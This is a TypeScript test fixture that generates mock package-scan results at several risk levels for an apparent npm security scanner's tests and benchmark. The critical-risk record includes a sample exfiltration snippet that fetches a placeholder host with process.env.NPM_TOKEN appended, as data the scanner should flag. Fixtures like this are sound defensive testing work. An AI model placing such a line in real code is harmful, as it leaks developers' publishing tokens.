/**
 * Realistic scan results for the integration tests and the API benchmark, built on
 * test/support/records.ts: a risky package carries the CVEs, threats, install scripts and
 * capabilities that explain its risk level, and every record passes the PackageResponse schema.
 */
import { PackageResponse, type RiskLevel } from '../../../src/contract/schemas';
import { packageRecord } from '../../support/records';

export interface ScanRecordOptions {
  readonly version?: string;
  readonly weeklyDownloads?: number;
  readonly risk?: RiskLevel;
  readonly scannedAt?: string;
  readonly verified?: boolean;
}

const BASE_TIME = Date.parse('2026-11-01T00:00:00.000Z');

export function scanRecord(name: string, options: ScanRecordOptions = {}): PackageResponse {
  const risk = options.risk ?? 'clean';
  const version = options.version ?? '1.0.0';
  const downloads = options.weeklyDownloads ?? 1_000;
  const record = packageRecord({
    name,
    version,
    weekly_downloads: downloads,
    trust_score: Math.min(100, Math.round(30 + 8 * Math.log10(downloads + 1))),
    publisher: {
      name: name.startsWith('@') ? name.slice(1, name.indexOf('/')) : `${name}-maintainer`,
      verified: options.verified ?? downloads > 100_000,
    },
    scanned_at: options.scannedAt ?? new Date(BASE_TIME).toISOString(),
    docs_md: `# ${name}\n\nVersion ${version}. Install with \`npm install ${name}\`.\n`,
  });
  if (risk === 'clean') return PackageResponse.parse(record);

  const cves =
    risk === 'critical'
      ? [
          {
            cve_id: 'CVE-2024-21538',
            severity: 'high' as const,
            description: 'Regular expression denial of service in a dependency',
            fixed_in: '7.0.5',
          },
        ]
      : [];
  const agentic =
    risk === 'critical'
      ? [
          {
            threat_type: 'data_exfiltration' as const,
            confidence: 0.92,
            location: 'lib/install.js:14',
            snippet: 'fetch("https://collector.invalid/" + process.env.NPM_TOKEN)',
          },
        ]
      : [];
  return PackageResponse.parse({
    ...record,
    risk_level: risk,
    risk_reasons:
      risk === 'critical'
        ? [
            'lib/install.js:14 sends environment variables to a remote host',
            'CVE-2024-21538 (high) affects this version',
          ]
        : ['A postinstall script runs at install time (scripts/postinstall.js)'],
    install_scripts: { ...record.install_scripts, postinstall: true },
    cves,
    agentic_threats: agentic,
    capabilities: {
      ...record.capabilities,
      network: {
        makes_requests: risk === 'critical',
        domains: risk === 'critical' ? ['collector.invalid'] : [],
        protocols: risk === 'critical' ? ['https'] : [],
      },
      environment: { accessed_vars: risk === 'critical' ? ['NPM_TOKEN'] : [] },
      process: { spawns_children: true, commands: ['node'] },
    },
  });
}
